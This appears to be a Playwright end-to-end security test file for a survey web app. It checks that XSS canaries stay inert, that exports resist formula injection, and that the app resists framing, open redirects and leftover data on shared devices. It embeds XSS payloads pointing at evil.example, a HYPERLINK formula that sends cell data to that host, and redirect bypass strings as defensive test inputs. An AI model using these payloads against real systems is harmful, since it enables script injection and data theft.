"""Attacks seen with a browser's eyes: a canary in every text, a framed page, a phone that two people share."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import date, timedelta

import pytest
from openpyxl import load_workbook
from playwright.sync_api import Browser, BrowserContext, Dialog, FilePayload, Locator, Page, Request, expect

from tests.e2e.conftest import DESK, Server, make_phone
from tests.e2e.filling import follow

pytestmark = [pytest.mark.e2e, pytest.mark.xdist_group("e2e")]
IMAGE = "<img src=//evil.example/x onerror=alert(1)>"
SCRIPT = '"><script>alert(2)</script>'
MARKDOWN = "![p](http://evil.example/p.png) [go](javascript:alert(3))"
CANARY = f"Canary {SCRIPT}{IMAGE}"
FORMULA = '=HYPERLINK("http://evil.example/"&A1, "Canary")'
FORM = f"""
| survey | type | name | label::Tiếng Việt (vi) | label::English (en) | hint::English (en) | required | constraint | constraint_message::English (en) | unit::English (en) | appearance |
|---|---|---|---|---|---|---|---|---|---|---|
|  | begin_group | one | {CANARY} | {CANARY} |  |  |  |  |  |  |
|  | text | words | {CANARY} vi | {CANARY} words {MARKDOWN} | {CANARY} {MARKDOWN} | yes |  |  |  |  |
|  | integer | number | {CANARY} vi | {CANARY} number ${{words}} | {CANARY} |  | . > 5 | {CANARY} ${{words}} | {IMAGE} |  |
|  | select_one c | one_of | {CANARY} vi | {CANARY} one | {CANARY} |  |  |  |  |  |
|  | select_multiple c | many_of | {CANARY} vi | {CANARY} many | {CANARY} |  |  |  |  |  |
|  | select_one c | picked | {CANARY} vi | {CANARY} picked | {CANARY} |  |  |  |  | minimal |
|  | file | paper | {CANARY} vi | {CANARY} paper | {CANARY} |  |  |  |  |  |
|  | note | told | {CANARY} vi | {CANARY} ${{words}} {MARKDOWN} |  |  |  |  |  |  |
|  | begin_repeat | row | {CANARY} vi | {CANARY} row |  |  |  |  |  |  |
|  | text | inner | {CANARY} vi | {CANARY} inner | {CANARY} |  |  |  |  |  |
|  | end_repeat |  |  |  |  |  |  |  |  |  |
|  | end_group |  |  |  |  |  |  |  |  |  |

| choices | list_name | name | label::Tiếng Việt (vi) | label::English (en) |
|---|---|---|---|---|
|  | c | a | {CANARY} vi | {CANARY} a |
|  | c | b | {CANARY} vi | {CANARY} b |

| settings | form_id | version | form_title::Tiếng Việt (vi) | form_title::English (en) | default_language |
|---|---|---|---|---|---|
|  | canary | 1 | {CANARY} vi | {CANARY} form | English (en) |
"""


@dataclass
class Watch:
    """What a browser may not do while it looks at the canary."""

    context: BrowserContext
    origin: str
    found: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.context.on("request", self._asked)
        self.context.on("dialog", self._opened)
        self.context.on("weberror", lambda error: self.found.append(f"error {error.error}"))
        self.context.on("console", lambda line: self._said(line.text))
        self.context.add_init_script(
            "addEventListener('securitypolicyviolation', e =>"
            " console.error('VIOLATION ' + e.violatedDirective + ' ' + e.blockedURI))"
        )

    def _opened(self, dialog: Dialog) -> None:
        self.found.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def _asked(self, request: Request) -> None:
        if not request.url.startswith((self.origin, "data:", "blob:")):
            self.found.append(f"request {request.url}")

    def _said(self, text: str) -> None:
        if "VIOLATION" in text or "Content Security Policy" in text:
            self.found.append(text)

    def look(self, page: Page, path: str = "") -> None:
        """Open a page, unless it is open: it shows the canary as words and does nothing it should not."""
        if path:
            answer = page.goto(self.origin + path)
            assert answer is not None
            assert answer.status == 200, path
        assert not page.locator("[src*='evil.example'], [href^='javascript'], [onerror], script:text('alert(')").count()
        assert self.found == [], page.url


@pytest.fixture
def desk(browser: Browser) -> Iterator[BrowserContext]:
    context = browser.new_context(viewport=DESK, locale="en-GB")
    context.set_default_timeout(15_000)
    yield context
    context.close()


def publish(page: Page, server: Server) -> None:
    page.goto(f"{server.url}/questionnaires/upload")
    name = "canary <img src=x onerror=alert(4)>.md"
    workbook: FilePayload = {"name": name, "mimeType": "text/markdown", "buffer": FORM.encode()}
    page.locator("input[name=workbook]").set_input_files([workbook])
    follow(page.locator("main form button"))
    assert "/versions/" in page.url, page.inner_text("main")
    follow(page.locator("form[action$='/publish'] button"))


def rename_establishment(page: Page, server: Server) -> str:
    """Give an establishment that has no link yet the canary for a name; back comes its address."""
    page.goto(f"{server.url}/registers/establishments?search=0100")
    follow(page.locator("a.row-link").first)
    address = page.url
    page.goto(f"{address}/edit")
    page.locator("#f-name").fill(f"{FORMULA} {CANARY} Ltd")
    follow(page.locator("main form button").first)
    assert page.url == address, page.inner_text("main")
    return address


def open_campaign(page: Page, server: Server) -> str:
    page.goto(f"{server.url}/campaigns/new")
    page.locator("select[name=phase]").select_option(index=1)
    for name in ("title_vi", "title_en"):
        page.locator(f"input[name={name}]").fill(CANARY)
    page.locator("select[name=register]").select_option(index=0)
    page.locator("label.choice:has-text('Canary') input[name=questionnaires]").check()
    page.locator("input[name=mode][value=self]").check()
    page.locator("input[name=opens_on]").fill((date.today() - timedelta(1)).isoformat())
    page.locator("input[name=closes_on]").fill((date.today() + timedelta(30)).isoformat())
    follow(page.locator("main form button"))
    assert re.search(r"/campaigns/\d+$", page.url), page.inner_text("main")
    return page.url


def invite(page: Page, campaign: str) -> str:
    page.goto(f"{campaign}/invitations?search=Canary")
    page.locator("input[name=establishment]").first.check()
    follow(page.locator("button[name=as][value=page]"))
    return page.locator(".links input").input_value()


def answer(page: Page, watch: Watch) -> None:
    """Fill the canary's form with canaries, in the app, by way of the plain pages."""
    follow(page.locator("main button.wide"))
    watch.look(page)
    page.locator("label.choice:has(input[name=consent][value=yes])").click()
    follow(page.locator("main button.wide"))
    page.wait_for_selector("#interview section[data-screen]:not([hidden])")
    page.locator("[name='one/words']").fill(CANARY)
    page.locator("[name='one/number']").fill("1")
    page.locator("label.choice:has([name='one/one_of'][value=a])").click()
    page.locator("label.choice:has([name='one/many_of'][value=b])").click()
    page.locator("select[name='one/picked']").select_option("b")
    paper: FilePayload = {
        "name": 'x"><img src=x onerror=alert(5)>.pdf',
        "mimeType": "application/pdf",
        "buffer": b"%PDF-1.4\n%%EOF\n",
    }
    page.locator("[name='one/paper']").set_input_files([paper])
    page.locator("[data-add-row]").click()
    page.locator("li.row input").first.fill(FORMULA)
    page.locator("[data-next-screen]").click()  # the number is wrong: the canary's own message is shown
    expect(page.locator("#summary")).to_contain_text("Canary")
    watch.look(page)
    page.locator("[data-next-screen]").click()
    expect(page.locator("[data-review-screen]")).to_be_visible()
    watch.look(page)
    expect(page.locator("[data-save-state]")).to_have_text("Saved")
    base = page.url.split("/app")[0].removeprefix(watch.origin)
    page.evaluate("sessionStorage.setItem('plain', '1')")
    for path in ("/", "/s/one", "/s/one?checked=1", "/review"):
        watch.look(page, base + path)
    page.goto(f"{watch.origin}{base}/app#review")
    page.locator("[data-send]").click()
    page.locator("[data-send]").click()
    page.wait_for_url(re.compile("/receipt$"))
    watch.look(page)
    watch.look(page, f"{base}/result")


def test_a_canary_in_every_text_stays_text_on_every_page(
    desk: BrowserContext, browser: Browser, server: Server, enter: Callable[[BrowserContext, str], Page]
) -> None:
    watch = Watch(desk, server.url)
    page = enter(desk, "administrator")
    follow(page.get_by_role("button", name="English"))
    publish(page, server)
    watch.look(page)
    establishment = rename_establishment(page, server)
    campaign = open_campaign(page, server)
    watch.look(page)
    link = invite(page, campaign)
    watch.look(page)
    page.goto(f"{server.url}/users/new")
    page.locator("input[name=name]").fill(CANARY)
    page.locator("input[name=email]").fill("canary@mau.example")
    page.locator("input[name=password]").fill("a canary sings at dawn")
    page.locator("select[name=role]").select_option("assessor")
    follow(page.locator("main form button"))
    watch.look(page)

    other = browser.new_context(viewport=DESK, locale="en-GB")
    other.set_default_timeout(15_000)
    seen = Watch(other, server.url)
    respondent = other.new_page()
    respondent.goto(link)
    follow(respondent.get_by_role("button", name="English"))
    seen.look(respondent)
    answer(respondent, seen)
    other.close()

    paths = [
        campaign.removeprefix(server.url) + tail
        for tail in ("", "/edit", "/assignments", "/invitations", "/visits", "/sample")
    ]
    paths += [establishment.removeprefix(server.url) + tail for tail in ("", "/edit")]
    paths += ["/", "/questionnaires", "/campaigns", "/submissions?search=Canary", "/users", "/coverage", "/account"]
    paths += ["/registers/establishments?search=Canary", "/plans"]
    for path in paths:
        watch.look(page, path)
    page.goto(f"{server.url}/users")
    follow(page.get_by_role("link", name=CANARY))
    watch.look(page)
    page.goto(f"{server.url}/submissions?search=Canary")
    follow(page.locator("tbody th a").first)
    expect(page.locator("main")).to_contain_text(f"{CANARY} words")
    watch.look(page)
    take_downloads(page, server)
    reader = enter_as(browser, server, "canary@mau.example", "a canary sings at dawn")
    seen = Watch(reader.context, server.url)
    for path in ("/work", "/account"):
        seen.look(reader, path)
    reader.context.close()
    rename_back(page, establishment)


def take_downloads(page: Page, server: Server) -> None:
    """Everything staff can save as a table holds the canary, and no spreadsheet runs or follows any of it."""
    page.goto(f"{server.url}/submissions?search=Canary")
    page.locator("select[name=questionnaire]").select_option(label=f"{CANARY} form")
    follow(page.locator("form[role=search] button"))
    saved = [(button.inner_text(), save(page, button)) for button in page.locator(".downloads button").all()]
    assert len(saved) >= 5
    assert any(FORMULA in content for _name, content in saved)
    for kind in ("xlsx", "csv"):
        for path in (f"/registers/establishments/export.{kind}?search=Canary", f"/coverage.{kind}"):
            answer = page.request.get(server.url + path)
            assert answer.status == 200
            inert(answer.body(), kind)


def save(page: Page, button: Locator) -> str:
    """Save one file, look that it is inert, and give back all its words."""
    with page.expect_download() as waiting:
        button.click()
    path = waiting.value.path()
    return inert(path.read_bytes(), waiting.value.suggested_filename.rpartition(".")[2])


def inert(content: bytes, kind: str) -> str:
    """No cell is a formula or a link, no part of the file points outside; all cells as one text."""
    if kind == "csv":
        cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
        for cell in cells:
            assert not cell.lstrip().startswith(("=", "+", "@")), cell
            assert not cell.startswith("-") or re.fullmatch(r"-[\d.e-]+", cell), cell
        return "\n".join(cells)
    book = load_workbook(io.BytesIO(content))
    found = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [cell.value for cell in found if cell.data_type == "f" or cell.hyperlink]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert not [name for name in archive.namelist() if "external" in name.lower() or name.endswith(".bin")]
        assert b'TargetMode="External"' not in b"".join(
            archive.read(name) for name in archive.namelist() if name.endswith(".rels")
        )
    return "\n".join(str(cell.value) for cell in found)


def rename_back(page: Page, establishment: str) -> None:
    """Leave the register to the next test as it was."""
    page.goto(f"{establishment}/edit")
    page.locator("#f-name").fill("Cơ sở mẫu 0100 – Thử Nghiệm")
    follow(page.locator("main form button").first)


def enter_as(browser: Browser, server: Server, email: str, password: str) -> Page:
    context = browser.new_context(viewport=DESK, locale="en-GB")
    context.set_default_timeout(15_000)
    page = context.new_page()
    page.goto(f"{server.url}/sign-in")
    page.fill("input[name=email]", email)
    page.fill("input[name=password]", password)
    follow(page.locator("main button"))
    return page


def test_no_page_lets_itself_be_framed_or_sends_people_elsewhere(
    desk: BrowserContext, server: Server, enter: Callable[[BrowserContext, str], Page]
) -> None:
    page = desk.new_page()
    page.route(
        "http://frame.example/",
        lambda route: route.fulfill(content_type="text/html", body=f"<iframe src='{server.url}/sign-in'></iframe>"),
    )
    page.goto("http://frame.example/")
    page.wait_for_timeout(500)
    assert "sign-in" not in "".join(frame.url for frame in page.frames[1:])
    email, password = server.account("analyst")
    for goal in ("https://evil.example", "//evil.example", "/\\evil.example", "\thttps://evil.example"):
        page.goto(f"{server.url}/sign-in")
        page.locator("main input[name=next]").evaluate("(e, goal) => { e.value = goal; }", goal)
        page.fill("input[name=email]", email)
        page.fill("input[name=password]", password)
        follow(page.locator("main button"))
        assert page.url.startswith(server.url), goal
        desk.clear_cookies()


def test_a_shared_phone_keeps_nothing_of_the_one_who_signed_out(
    browser: Browser, server: Server, enter: Callable[[BrowserContext, str], Page]
) -> None:
    secret = "Bí mật của A 7F3K9Q"
    context = make_phone(browser)
    context.on("dialog", lambda dialog: dialog.accept())
    page = enter(context, "assessor")
    page.goto(f"{server.url}/work")
    follow(page.locator("section[aria-labelledby=w-open] li.card h3 a").first)
    consent = page.locator("label.choice:has(input[name=consent][value=yes])")
    if consent.count():
        consent.tap()
    follow(page.locator("main button.wide"))
    page.wait_for_selector("#interview section[data-screen]:not([hidden])")
    draft = page.url
    context.route("**/api/v1/drafts/*/changes", lambda route: route.abort())
    page.locator("[data-question$='id_resp_name'] input").fill(secret)
    expect(page.locator("[data-save-state]")).to_contain_text("Chưa lưu")
    page.goto(f"{server.url}/work")
    page.locator(".menu summary").tap()
    follow(page.locator("form[action='/sign-out'] button"))
    context.unroute("**/api/v1/drafts/*/changes")

    second = enter(context, "analyst")
    assert secret not in stored(second)
    answer = second.goto(draft)
    assert answer is not None
    assert answer.status in (403, 404)
    assert secret not in second.content()
    for _ in range(3):
        page.go_back()
        assert secret not in page.content()
    context.close()


def stored(page: Page) -> str:
    """All that this browser keeps for the site, as text."""
    return str(
        page.evaluate("""async () => JSON.stringify([
      {...localStorage}, {...sessionStorage}, document.cookie,
      (await indexedDB.databases()).map(one => one.name), await caches.keys(),
      await Promise.all((await caches.keys()).map(async name =>
        Promise.all((await (await caches.open(name)).matchAll()).map(one => one.text())))),
    ])""")
    )
